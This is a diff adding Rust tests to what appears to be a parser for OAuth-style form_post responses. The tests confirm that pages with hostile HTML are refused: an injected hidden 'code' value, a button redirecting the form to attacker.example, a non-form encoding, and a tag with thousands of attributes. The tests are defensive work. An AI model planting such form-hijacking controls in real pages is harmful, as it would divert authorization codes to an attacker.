@@ -138,3 +138,43 @@ fn an_answer_that_is_not_an_html_page_is_refused() {
     assert!(read(&response, CB, &mut parsed).is_none());
     assert_eq!(failed(&parsed), vec![CheckId::FormPostPage]);
 }
+
+/// HTML §4.10.18.3: a control anywhere in the page joins a form by its
+/// `form` attribute; one outside the form the reader reads would post a
+/// value (or send the form elsewhere) unseen: the page is refused.
+#[test]
+fn a_control_outside_the_form_joining_it_is_refused() {
+    for outside in [
+        "<input type=\"hidden\" name=\"code\" value=\"attacker\" form=\"f\">",
+        "<button form=\"f\" formaction=\"https://attacker.example/\">Go</button>",
+    ] {
+        let body = format!(
+            "<html><body>{outside}<form id=\"f\" method=\"post\" action=\"{CB}\">\
+             <input type=\"hidden\" name=\"code\" value=\"c\"></form></body></html>"
+        );
+        let (params, parsed) = read_page(&body);
+        assert!(params.is_none(), "{outside}");
+        assert!(!failed(&parsed).is_empty(), "{outside}");
+    }
+}
+
+/// Form Post §2: the parameters are form-encoded; another enctype is refused.
+#[test]
+fn a_form_posting_another_encoding_is_refused() {
+    let body = format!(
+        "<form method=\"post\" enctype=\"text/plain\" action=\"{CB}\">\
+         <input type=\"hidden\" name=\"code\" value=\"c\"></form>"
+    );
+    let (params, _) = read_page(&body);
+    assert!(params.is_none());
+}
+
+/// A tag with thousands of attributes is refused before the duplicate
+/// check could cost quadratic time.
+#[test]
+fn a_tag_with_too_many_attributes_is_refused() {
+    let many: String = (0..10_000).map(|i| format!(" a{i}=x")).collect();
+    let body = format!("<form{many} method=\"post\" action=\"{CB}\"></form>");
+    let (params, _) = read_page(&body);
+    assert!(params.is_none());
+}
